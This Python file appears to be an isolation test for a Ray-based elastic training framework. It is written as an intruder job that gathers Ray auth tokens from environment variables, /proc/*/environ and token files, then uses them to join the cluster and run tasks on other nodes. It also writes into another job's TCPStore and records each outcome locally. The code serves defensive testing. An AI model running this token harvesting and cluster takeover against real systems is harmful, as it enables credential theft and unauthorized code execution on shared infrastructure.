"""A job that tries to take over the Ray cluster it runs on (``test_ray_isolation.py``), run as a real
elastic job on a real server with the Ray executor; such a job runs in the hosts' network.

It looks for the cluster's token (its environment, every process's environment it can see, the token
file the cluster was started with, ``~/.ray/auth_token`` of root and of its own home) and for Ray's
directory (sockets, session); then, with whatever token it found, it joins the cluster as a Ray node
of its own and runs a task on each of the cluster's other nodes, which reports the uid it ran as; and,
given VICTIM_MASTER (host:port), it writes into that ``TCPStore`` (another job's rendezvous). Each
outcome goes to ``intrusion.json`` in its job directory: ``{"succeeded": bool, "detail": str}``.

Environment: RAY_TARGET (the GCS address), RAY_DIR (the cluster's Ray directory), TOKEN_FILE (the file
the cluster reads its token from, if any), VICTIM_MASTER (optional).
"""

from __future__ import annotations

import datetime
import glob
import json
import os
import subprocess
import sys

# Joins the cluster at argv[1] as a node of its own (Ray's directory in the job's private /tmp), runs a
# task pinned to every other node, prints their (uid, node) as JSON.
JOIN = r"""
import json, os, sys
import ray, ray._private.node
from ray._private.parameter import RayParams
from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy
p = RayParams(gcs_address=sys.argv[1], num_cpus=1, num_gpus=0, object_store_memory=80 * 1024 * 1024,
              min_worker_port=0, max_worker_port=0, include_log_monitor=False, node_manager_port=0,
              node_ip_address=sys.argv[1].rsplit(":", 1)[0], temp_dir="/tmp/intruder-ray")
p.dashboard_agent_listen_port = None
node = ray._private.node.Node(p, head=False, shutdown_at_exit=True, spawn_reaper=True)
ray.init(address=sys.argv[1], log_to_driver=False, _temp_dir="/tmp/intruder-ray")
me = ray.get_runtime_context().get_node_id()
@ray.remote(num_cpus=0)
def whoami():
    return os.getuid(), ray.get_runtime_context().get_node_id()
others = [n["NodeID"] for n in ray.nodes() if n["Alive"] and n["NodeID"] != me]
got = ray.get([whoami.options(scheduling_strategy=NodeAffinitySchedulingStrategy(n, soft=False)).remote()
               for n in others], timeout=120)
print(json.dumps(got), flush=True)
ray.shutdown()
node.kill_all_processes(check_alive=False, allow_graceful=False)
"""


def attempt(results: dict, name: str, attack) -> None:  # noqa: ANN001 - a callable returning (bool, str)
    try:
        succeeded, detail = attack()
    except Exception as e:  # noqa: BLE001 - an attack that raises did not succeed
        succeeded, detail = False, f"{type(e).__name__}: {e}"
    results[name] = {"succeeded": bool(succeeded), "detail": str(detail)[:600]}


def main() -> dict:
    results: dict = {}
    tokens: list[str] = []

    def environment():  # noqa: ANN202
        found = {k: v for k, v in os.environ.items() if k.startswith("RAY_AUTH")}
        tokens.extend(v for k, v in found.items() if k == "RAY_AUTH_TOKEN")
        return bool(found), f"RAY_AUTH variables: {sorted(found)}"

    def processes():  # noqa: ANN202
        seen, found = 0, []
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                with open(path, "rb") as f:
                    data = f.read()
            except OSError:
                continue
            seen += 1
            found += [kv.split(b"=", 1)[1].decode() for kv in data.split(b"\0") if kv.startswith(b"RAY_AUTH_TOKEN=")]
        tokens.extend(found)
        return bool(found), f"{seen} environments read, {len(found)} tokens"

    def files():  # noqa: ANN202
        candidates = [os.environ.get("TOKEN_FILE", ""), "/root/.ray/auth_token",
                      os.path.expanduser("~/.ray/auth_token"), *glob.glob("/home/*/.ray/auth_token")]
        read = []
        for path in filter(None, dict.fromkeys(candidates)):
            try:
                with open(path) as f:
                    tokens.append(f.read().strip())
                read.append(path)
            except OSError:
                continue
        return bool(read), f"read {read}" if read else f"none of {candidates} readable"

    def ray_directory():  # noqa: ANN202
        entries = glob.glob(os.path.join(os.environ["RAY_DIR"], "**", "session_*"), recursive=True)
        sockets = glob.glob(os.path.join(os.environ["RAY_DIR"], "**", "sockets", "*"), recursive=True)
        return bool(entries or sockets), f"{len(entries)} sessions, {len(sockets)} sockets in sight"

    def run_on_ray():  # noqa: ANN202
        env = {k: v for k, v in os.environ.items() if not k.startswith("RAY_AUTH")}
        env["RAY_ENABLE_WINDOWS_OR_OSX_CLUSTER"] = "0"  # keep a loopback address on loopback
        if tokens:
            env.update(RAY_AUTH_MODE="token", RAY_AUTH_TOKEN=tokens[0])
        try:
            r = subprocess.run([sys.executable, "-c", JOIN, os.environ["RAY_TARGET"]], capture_output=True,
                               text=True, env=env, timeout=240)
        except subprocess.TimeoutExpired:
            return False, "timed out"
        lines = r.stdout.strip().splitlines()
        if r.returncode == 0 and lines:
            ran = json.loads(lines[-1])
            return bool(ran), f"tasks ran on {len(ran)} other nodes as uids {sorted({u for u, _ in ran})}"
        errors = [ln for ln in r.stderr.splitlines() if "Error" in ln or "error" in ln]
        return False, f"exit {r.returncode}: {(errors or r.stderr.splitlines() or [''])[-1]}"

    def victim_store():  # noqa: ANN202
        import torch.distributed as dist

        host, port = os.environ["VICTIM_MASTER"].rsplit(":", 1)
        store = dist.TCPStore(host, int(port), is_master=False, wait_for_workers=False,
                              timeout=datetime.timedelta(seconds=5))
        store.set("intruder", "was here")
        return True, f"wrote into the TCPStore at {host}:{port}"

    attempt(results, "token_in_environment", environment)
    attempt(results, "token_in_processes", processes)
    attempt(results, "token_file", files)
    attempt(results, "ray_directory", ray_directory)
    attempt(results, "run_on_ray", run_on_ray)
    if os.environ.get("VICTIM_MASTER"):
        attempt(results, "other_gangs_rendezvous", victim_store)
    return results


if __name__ == "__main__":
    import torch
    from torch import nn

    import coddl.elastic as elastic

    with elastic.session() as s:
        out = main()
        with open(os.path.join(os.environ["CODDL_JOB_DIR"], "intrusion.json"), "w") as f:
            json.dump(out, f, indent=1)
        print(json.dumps(out), flush=True)
        model = nn.Linear(2, 1)
        model, opt = s.wrap(model, torch.optim.SGD(model.parameters(), lr=0.1))
        for xb in s.batches(torch.zeros(8, 2), global_batch=4, steps=1):
            model(xb).sum().backward()
            s.step()
